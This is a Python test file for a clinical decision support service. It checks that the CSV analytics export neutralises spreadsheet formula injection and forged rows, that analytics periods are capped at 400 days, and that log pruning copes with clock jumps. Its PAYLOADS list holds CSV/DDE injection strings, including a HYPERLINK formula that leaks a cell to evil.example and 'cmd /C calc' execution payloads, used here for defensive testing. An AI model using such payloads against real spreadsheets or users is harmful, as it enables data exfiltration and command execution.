"""Exports and the card log's upkeep: CSV cells a spreadsheet could run are neutralised and cells
with line breaks quoted (read back with Python's csv module), the analytics period is at most 400
days, and pruning never deletes rows dated after the newest row less the retention."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from sqlalchemy import func, select
from typer.testing import CliRunner

from cds.cli import app as cli
from cds.store.cardlog import card_rows
from cds.store.feedback import FeedbackRequest, FeedbackStore
from cds.store.tables import feedback, issued_cards

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "a\rforged,row", "b\nforged,row", "c\r\n=1+1,forged"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
SERVICE = "b12-order-sign"


def _seed(store: FeedbackStore, now: datetime) -> None:
    """Per payload: a card whose rule id is the payload, overridden with the payload as reason code."""
    for index, payload in enumerate(PAYLOADS):
        card = {"uuid": f"card-{index}", "source": {"topic": {"code": payload}}, "indicator": "warning"}
        store.log_cards(card_rows(SERVICE, "h", f"{index:064x}", [card], now - timedelta(hours=1)))
        store.store(SERVICE, FeedbackRequest.model_validate({"feedback": [{
            "card": f"card-{index}", "outcome": "overridden", "outcomeTimestamp": now.isoformat(),
            "overrideReason": {"reason": {"system": "urn:x", "code": payload, "display": payload}}}]}))


def test_the_csv_export_holds_no_formula_and_no_forged_row(tmp_path):
    url = f"sqlite:///{tmp_path / 'feedback.db'}"
    now = datetime.now(UTC)
    _seed(FeedbackStore(url), now)
    result = CliRunner().invoke(cli, ["analytics", "export", "--since", (now - timedelta(days=1)).isoformat(),
                                      "--format", "csv"], env={"CDS_DATABASE_URL": url})
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode()          # as written (click's .stdout turns CR LF into LF)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(PAYLOADS)                                    # the header and one row per rule
    assert all(not cell.startswith(FORMULA) for row in rows for cell in row)
    rule_cells = {row[0] for row in rows[1:]}
    assert rule_cells == {f"'{p}" if p.startswith(FORMULA) else p for p in PAYLOADS}   # neutralised, not lost
    assert '"a\rforged,row"' in text and '"b\nforged,row"' in text             # line breaks quoted


def test_the_analytics_period_is_at_most_400_days(client):
    response = client.get("/analytics/api/rules", params={"since": "2025-01-01", "until": "2026-02-06"})
    assert response.status_code == 400
    assert response.json()["detail"] == [{"field": "since", "message": "the period is at most 400 days"}]
    assert client.get("/analytics/api/rules", params={"since": "2025-01-01", "until": "2026-02-04"}).status_code == 200


def test_a_clock_jump_ahead_prunes_nothing_that_should_stay(database_url):
    store = FeedbackStore(database_url)
    now = datetime.now(UTC)
    _seed(store, now)
    old = {"uuid": "old", "source": {"topic": {"code": "units.x"}}, "indicator": "info"}
    store.log_cards(card_rows(SERVICE, "h", "f" * 64, [old], now - timedelta(days=450)))

    def counts() -> tuple[int, int]:
        with store.engine.connect() as connection:
            return (connection.execute(select(func.count()).select_from(issued_cards)).scalar_one(),
                    connection.execute(select(func.count()).select_from(feedback)).scalar_one())

    assert counts() == (len(PAYLOADS) + 1, len(PAYLOADS))
    assert store.prune(timedelta(days=400), now + timedelta(days=401)) == (1, 0, 0)   # only the truly old card
    assert counts() == (len(PAYLOADS), len(PAYLOADS))
    assert store.prune(timedelta(days=400), now + timedelta(days=4000)) == (0, 0, 0)
    assert store.prune(timedelta(days=400), now) == (0, 0, 0)
